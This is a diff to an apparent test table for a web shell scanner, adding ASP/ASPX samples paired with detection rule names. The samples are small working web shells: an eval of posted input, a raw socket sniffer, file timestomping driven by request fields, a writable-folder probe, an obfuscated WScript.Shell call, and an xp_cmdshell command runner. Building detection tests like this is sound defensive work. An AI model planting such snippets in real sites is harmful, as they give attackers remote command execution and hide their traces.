@@ -142,6 +142,25 @@ const Example kShells[] = {
      "s.SaveToFile Server.MapPath(\"b.asp\"), 2\r\n%>",
      "SC_ASP_Downloader"},
     {"asp_utf7", "/x.asp", "<%@ codepage=65000%>\r\n<% +AHIAZQBz- %>", "SC_ASP_Encoded_Or_Utf7_Script"},
+    {"raw_socket_sniffer", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() {"
+     " var s = new System.Net.Sockets.Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);"
+     " s.IOControl(IOControlCode.ReceiveAll, new byte[] {1, 0, 0, 0}, null); }</script>",
+     "SC_ASPX_Raw_Socket_Sniffer"},
+    {"timestomp_aspx", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><% System.IO.File.SetCreationTime(Request.Form[\"f\"], "
+     "System.DateTime.Parse(Request.Form[\"t\"])); %>",
+     "SC_Timestomp_From_Request"},
+    {"writable_folder_probe", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Scan(DirectoryInfo d) {"
+     " foreach (var s in d.GetDirectories()) { try { File.Create(s.FullName + \"\\\\probe.txt\").Close();"
+     " File.Delete(s.FullName + \"\\\\probe.txt\"); Response.Write(s.FullName); } catch {} Scan(s); } }</script>",
+     "SC_Writable_Folder_Scanner"},
+    {"jscript_eval_alias", "/x.asp",
+     "<script runat=\"server\" language=\"javascript\">var t = {'run': eval}; t.run(String(Request.Form('k')));</script>",
+     "SC_JScript_Eval_Alias"},
+    {"split_progid", "/x.asp",
+     "<% Set o = Server.CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\") %>", "SC_ASP_Split_ProgID"},
     {"sql_xp_cmdshell", "/x.aspx",
      "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() { var c = new SqlConnection(cs);"
      " new SqlCommand(\"exec master..xp_cmdshell '\" + Request[\"c\"] + \"'\", c).ExecuteReader(); }</script>",
